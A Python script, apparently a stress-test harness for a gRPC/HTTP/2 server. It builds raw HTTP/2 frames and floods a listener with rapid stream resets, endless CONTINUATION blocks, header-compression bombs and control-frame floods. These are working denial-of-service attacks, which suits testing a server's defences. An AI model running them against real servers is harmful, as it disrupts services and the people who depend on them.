"""A program that plays hostile connections of a listener, in frames that it makes itself (RFC 9113).

``python hostile_connections.py ADDRESS CA COUNT KIND SECONDS SOURCES [NICE]`` opens COUNT connections from SOURCES
loopback addresses, 127.0.1.1 and on, or from 127.0.0.1 where SOURCES is 0, and sends on each what KIND names. It prints
a line once the first bytes of all are sent, or after two seconds. One that is ended connects again, for SECONDS from
then on; the last line has the number of connections with TLS, and the bytes that were sent on them.
"""

from __future__ import annotations

import contextlib
import os
import socket
import ssl
import sys
import threading
import time
from collections.abc import Iterator

_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
_UNKNOWN, _END_STREAM, _END_HEADERS = 77, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PAUSE_SECONDS = 0.05
#: Within it, a call of a hostile connection has its answer.
ANSWER_SECONDS = 0.5
_BEGIN_SECONDS = 2.0
KINDS = (
    "headers", "indexed", "held", "answered", "literal", "empty", "pings", "settings", "priorities", "windows",
    "unknown", "resets", "silence",
)  # fmt: skip


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def headers(fields: dict[str, str]) -> bytes:
    """Literal header fields without indexing and without Huffman codes (RFC 7541, 6.2.2)."""
    return b"".join(
        b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in fields.items()
    )


_CALL = headers(
    {
        ":method": "POST", ":scheme": "https", ":path": "/odp.test.Test/Do", ":authority": "localhost",
        "content-type": "application/grpc", "te": "trailers",
    }
)  # fmt: skip


def attack(kind: str) -> Iterator[bytes]:
    """The bytes of one connection, without an end."""
    yield PREFACE + frame(_SETTINGS, 0, 0)
    if kind == "silence":
        return
    if kind == "resets":
        stream = 1
        while True:
            calls = range(stream, stream + 400, 2)
            yield b"".join(frame(_HEADERS, _END_HEADERS, n, _CALL) + frame(_RESET, 0, n, bytes(4)) for n in calls)
            stream += 400
    if kind in ("indexed", "held", "answered"):
        first = 1
        if kind == "answered":
            yield frame(_HEADERS, _END_HEADERS, 1, _CALL) + frame(_DATA, _END_STREAM, 1, bytes(5))
            time.sleep(ANSWER_SECONDS)
            first = 3
        # A field, and then a byte for each time that it comes again, in a block without an end. The limits of the
        # listener are not acknowledged.
        yield frame(_HEADERS, 0, first, _CALL + b"\x40" + headers({"x-a": "b" * 10})[1:])
        again = frame(_CONTINUATION, 0, first, b"\xbe" * 15000)
        if kind == "held":
            yield 2 * again
            return
        while True:
            yield 4 * again
    if kind in ("headers", "literal", "empty"):
        # A literal field of half a gigabyte, or a header block that goes on and on.
        yield frame(_HEADERS, 0, 1, _CALL + (b"\x00\x03x-a\x7f\x81\xff\xff\xff\x01" if kind == "literal" else b""))
    pieces = {
        "headers": frame(_CONTINUATION, 0, 1, headers({"x-a": "b" * 100}) * 150) * 4,
        "literal": frame(_CONTINUATION, 0, 1, b"b" * 2**14) * 4,
        "empty": frame(_CONTINUATION, 0, 1) * 7000,
        "pings": frame(_PING, 0, 0, bytes(8)) * 3800,
        "settings": frame(_SETTINGS, 0, 0) * 7000,
        "priorities": frame(_PRIORITY, 0, 1, bytes(5)) * 4600,
        "windows": frame(_WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 5000,
        "unknown": frame(_UNKNOWN, 0, 0, bytes(16000)) * 4,
    }
    while True:
        yield pieces[kind]


def main() -> None:
    """Attacks until the time is over."""
    address, ca, count, kind, seconds, sources, *nice = sys.argv[1:]
    os.nice(int(nice[0]) if nice else 19)  # it stands for other machines, which take no processor from the listener
    host, _, port = address.rpartition(":")
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    begun = threading.Semaphore(0)
    opened, sent = [0] * int(count), [0] * int(count)

    def connection(number: int) -> None:
        source = f"127.0.1.{1 + number % int(sources)}" if int(sources) else "127.0.0.1"
        first = True
        while True:
            with contextlib.suppress(OSError):
                raw = socket.create_connection((host, int(port)), timeout=5.0, source_address=(source, 0))
                with context.wrap_socket(raw, server_hostname="localhost") as caller:
                    opened[number] += 1
                    for piece in attack(kind):
                        caller.sendall(piece)
                        sent[number] += len(piece)
                        if first:
                            begun.release()
                            first = False
                    caller.recv(1)
                    while caller.recv(4096):
                        pass
            time.sleep(PAUSE_SECONDS)

    for number in range(int(count)):
        threading.Thread(target=connection, args=(number,), daemon=True).start()
    until = time.monotonic() + _BEGIN_SECONDS
    for _ in range(int(count)):
        begun.acquire(timeout=max(0.0, until - time.monotonic()))
    sys.stdout.write("begun\n")
    sys.stdout.flush()
    time.sleep(float(seconds))
    sys.stdout.write(f"{sum(opened)} {sum(sent)}\n")
    sys.stdout.flush()
    os._exit(0)  # the threads go on


if __name__ == "__main__":
    main()
